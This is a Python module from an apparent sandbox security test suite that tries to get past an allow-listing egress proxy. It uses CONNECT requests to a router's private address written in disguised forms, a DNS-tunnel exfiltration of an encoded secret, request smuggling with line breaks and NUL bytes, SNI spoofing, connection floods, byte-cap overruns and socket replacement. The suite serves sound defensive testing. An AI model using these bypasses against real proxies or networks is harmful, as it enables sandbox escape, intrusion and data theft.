"""Attempts to get more out of a gate than listed names on 443: into the home, elsewhere, further than was agreed."""

import errno
import os
import socket
import struct
import time
from collections.abc import Callable
from typing import Final

from gpu_sandbox.attack.trying import Attempt, Outcome, Surroundings, Target, explained, held, leaked, refused


GROUP: Final = "gate"
_PATIENCE_S: Final = 12.0
_MORE: Final = 160
"""Connections to open at once: far more than a gate serves."""
_ROUNDS: Final = 4
_BURST: Final = 1 << 15
_TRIES: Final = 20


def hello(name: str, *extensions: tuple[int, bytes]) -> bytes:
    """Return the first message of TLS for a name (RFC 8446 section 4.1.2), with further extensions.

    Args:
        name: whom it asks for; an empty one leaves that out.
        extensions: numbers and contents.
    """
    host = name.encode()
    server_name = struct.pack(">HBH", len(host) + 3, 0, len(host)) + host
    listed = (*(((0, server_name),) if name else ()), *extensions)
    packed = b"".join(struct.pack(">HH", kind, len(content)) + content for kind, content in listed)
    body = (
        b"\x03\x03" + bytes(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" + struct.pack(">H", len(packed)) + packed
    )
    message = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(message)) + message


def _line(where: Surroundings) -> socket.socket:
    line = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        line.settimeout(_PATIENCE_S)
        line.connect(where.gate)
    except OSError:
        line.close()
        raise
    return line


def _answer(line: socket.socket) -> bytes:
    """Return the head of an answer, or what there is of it."""
    data = b""
    try:
        while b"\r\n\r\n" not in data and (chunk := line.recv(1)):
            data += chunk
    except ConnectionError:
        return data
    return data


def _asked(line: socket.socket, request: bytes) -> bool:
    """Return whether a gate lets a request through."""
    try:
        line.sendall(request)
    except ConnectionError:
        return False
    return _answer(line).startswith(b"HTTP/1.1 200")


def _connect(authority: str) -> bytes:
    return f"CONNECT {authority} HTTP/1.1\r\n\r\n".encode()


def _came_back(line: socket.socket, content: bytes) -> bytes:
    """Send something and return what comes back, up to as much and an address."""
    data = b""
    try:
        line.sendall(content)
        while len(data) < 64 and (chunk := line.recv(1 << 12)):
            data += chunk
            if b"\n" in data:
                break
    except (ConnectionError, TimeoutError):
        pass
    return b"" if data.startswith(b"HTTP/1.1 40") else data


def _request(request: bytes, good: str = "the gate said no") -> Callable[[Surroundings], Outcome]:
    def act(where: Surroundings) -> Outcome:
        with _line(where) as line:
            return held(not _asked(line, request), good, "the gate opened")

    return act


def _to(target: Target) -> Attempt:
    def act(where: Surroundings) -> Outcome:
        for port in dict.fromkeys((target.port, 443)):
            with _line(where) as line:
                if _asked(line, _connect(f"{target.host}:{port}")):
                    return leaked(f"the gate opened for {target.what} on {port}")
        return refused("the gate said no")

    return Attempt(f"gate-{target.id}", GROUP, f"Reach {target.what} through the gate", act, _PATIENCE_S)


def _home_by_name(where: Surroundings, name: str) -> Outcome:
    """Ask for a listed name again and again: does anybody else answer than the one host that may be reached?"""
    known = _who(where, where.listed[0])
    for _ in range(_ROUNDS):
        answer = _who(where, name)
        if answer not in {b"", known}:
            return leaked(f"{name} led to {answer[:40].decode('ascii', 'replace').strip()}")
    return refused("nobody else answered")


def _who(where: Surroundings, name: str) -> bytes:
    """Return the first line that a host says of itself; nothing where it is not reached."""
    with _line(where) as line:
        return _came_back(line, hello(name)) if _asked(line, _connect(f"{name}:443")) else b""


def _by_name(name: str) -> Attempt:
    return Attempt(
        f"gate-name-{name}",
        GROUP,
        f"Come home by the listed name {name}",
        lambda where: _home_by_name(where, name),
        _PATIENCE_S,
    )


def _first(where: Surroundings) -> str:
    return where.listed[0]


def _port(where: Surroundings) -> Outcome:
    for port in (80, 22, 8443, 53, 853, 0, 65_979):
        with _line(where) as line:
            if _asked(line, _connect(f"{_first(where)}:{port}")):
                return leaked(f"the gate opened on port {port}")
    return refused("443 alone is open")


def _hides(content: Callable[[str], bytes]) -> Callable[[Surroundings], Outcome]:
    """Return an attempt to say something else than TLS for the listed name, once the gate is open."""

    def act(where: Surroundings) -> Outcome:
        name = _first(where)
        with _line(where) as line:
            if not _asked(line, _connect(f"{name}:443")):
                return refused("nobody is reached at all")
            came = _came_back(line, content(name))
            return held(not came, "the gate closed", "it was passed on")

    return act


def _redirected(where: Surroundings) -> Outcome:
    name = _first(where)
    with _line(where) as line:
        if not _asked(line, _connect(f"{name}:443")):
            return refused("nobody is reached at all")
        _came_back(line, hello(name))
        line.sendall(b"GET /home HTTP/1.1\r\n\r\n")
        found = _answer(line)
    if b"Location: http://192.168.1.1/" not in found:
        return refused("nobody redirects")
    with _line(where) as line:
        opened = _asked(line, _connect("192.168.1.1:80"))
    return held(not opened, "the gate said no to where it leads", "the redirect was followed home")


def _over_the_cap(where: Surroundings) -> Outcome:
    """Send to a host that sends all of it back, until the gate closes; over several connections, too."""
    name, passed = _first(where), 0
    for _ in range(_ROUNDS):
        with _line(where) as line:
            if not _asked(line, _connect(f"{name}:443")):
                break
            _came_back(line, hello(name))
            while passed <= where.gate_bytes and (came := _echoed(line)):
                passed += 2 * came
    return held(passed <= where.gate_bytes, f"it closed after {passed >> 10} KiB", f"{passed >> 10} KiB passed")


def _echoed(line: socket.socket) -> int:
    """Return how many bytes were sent and came back: none once the gate has closed."""
    came = 0
    try:
        line.sendall(bytes(_BURST))
        while came < _BURST and (chunk := line.recv(_BURST - came)):
            came += len(chunk)
    except OSError:
        return 0
    return came if came == _BURST else 0


def _patiently(where: Surroundings) -> socket.socket | None:
    """Return one more connection; a gate that has not accepted the last ones yet gets a moment."""
    for _ in range(_TRIES):
        try:
            return _line(where)
        except BlockingIOError:
            time.sleep(0.005)
        except OSError:
            return None
    return None


def _many(where: Surroundings) -> Outcome:
    """Open many connections and say nothing; a gate that serves them all would make as many to the outside."""
    lines: list[socket.socket] = []
    served = 0
    try:
        for _ in range(_MORE):
            if (more := _patiently(where)) is None:
                break
            lines.append(more)
        for line in lines:
            line.settimeout(0.01)
            try:
                served += bool(line.recv(1))
            except TimeoutError:
                served += 1
            except OSError:
                continue
    finally:
        for line in lines:
            line.close()
    return held(served <= _MORE // 2, f"{served} of {len(lines)} were kept", f"{served} of {len(lines)} were served")


def _replaced(where: Surroundings) -> Outcome:
    """Put a socket of one's own in the place of the gate's."""
    try:
        os.rename(where.gate, f"{where.gate}.old")
    except OSError as error:
        return held(error.errno in {errno.EROFS, errno.EACCES, errno.EPERM}, explained(error), explained(error))
    return leaked("the gate's socket was moved away")


def attempts(where: Surroundings) -> tuple[Attempt, ...]:
    """Return the attempts on a gate; none where the job has none."""
    if not where.gate:
        return ()
    targets = (_to(target) for target in where.targets if target.kind == "tcp")
    return (*targets, *(_by_name(name) for name in where.listed[1:]), *_FIXED)


def _attempt(name: str, tried: str, act: Callable[[Surroundings], Outcome]) -> Attempt:
    return Attempt(f"gate-{name}", GROUP, tried, act, _PATIENCE_S)


_FIXED: Final = (
    _attempt("other-name", "Reach a host that is not on the list", _request(_connect("example.com:443"))),
    _attempt("dns-tunnel", "Carry a secret out in a name", _request(_connect("c2VjcmV0.tunnel.example.net:443"))),
    _attempt("other-port", "Reach a listed host on another port", _port),
    _attempt("number", "Reach an address written as a number", _request(_connect("3232235777:443"))),
    _attempt("hex", "Reach an address written in hexadecimal", _request(_connect("0xc0a80101:443"))),
    _attempt("ipv6", "Reach an address inside IPv6", _request(_connect("[::ffff:192.168.1.1]:443"))),
    _attempt("one-label", "Reach a host of the home by its short name", _request(_connect("fritz:443"))),
    _attempt("localhost", "Reach the gate's own machine", _request(_connect("localhost:443"))),
    _attempt(
        "plain-http", "Have the gate fetch a page of the router", _request(b"GET http://192.168.1.1/ HTTP/1.1\r\n\r\n")
    ),
    _attempt(
        "user", "Hide a host behind a user's name", lambda w: _request(_connect(f"{_first(w)}:443@192.168.1.1:443"))(w)
    ),
    _attempt(
        "host-header",
        "Name another host in a header",
        _request(b"CONNECT 192.168.1.1:443 HTTP/1.1\r\nHost: example.org\r\n\r\n"),
    ),
    _attempt(
        "line-break",
        "Smuggle a second request",
        lambda w: _request(f"CONNECT 192.168.1.1:443 HTTP/1.1\n\nCONNECT {_first(w)}:443 HTTP/1.1\r\n\r\n".encode())(w),
    ),
    _attempt(
        "nul",
        "End the name early",
        lambda w: _request(f"CONNECT 192.168.1.1\0.{_first(w)}:443 HTTP/1.1\r\n\r\n".encode())(w),
    ),
    _attempt("long-head", "Overflow the gate's head", _request(b"CONNECT " + b"a" * 60_000 + b":443 HTTP/1.1\r\n\r\n")),
    _attempt("no-tls", "Speak something else than TLS", _hides(lambda _: b"SSH-2.0-lull\r\n")),
    _attempt("other-sni", "Ask for another host inside TLS", _hides(lambda _: hello("other.example.net"))),
    _attempt("no-sni", "Name no host inside TLS", _hides(lambda _: hello(""))),
    _attempt(
        "two-sni",
        "Name two hosts inside TLS",
        _hides(lambda name: hello(name, (0, b"\x00\x0c\x00\x00\x09other.net"))),
    ),
    _attempt("hidden-sni", "Hide the host inside TLS", _hides(lambda name: hello(name, (0xFE0D, bytes(40))))),
    _attempt("redirect", "Follow a redirect into the home", _redirected),
    _attempt("socket-replace", "Put another socket in the gate's place", _replaced),
    _attempt("many-connections", "Open many connections at once", _many),
    _attempt("byte-cap", "Send more than was agreed", _over_the_cap),
)
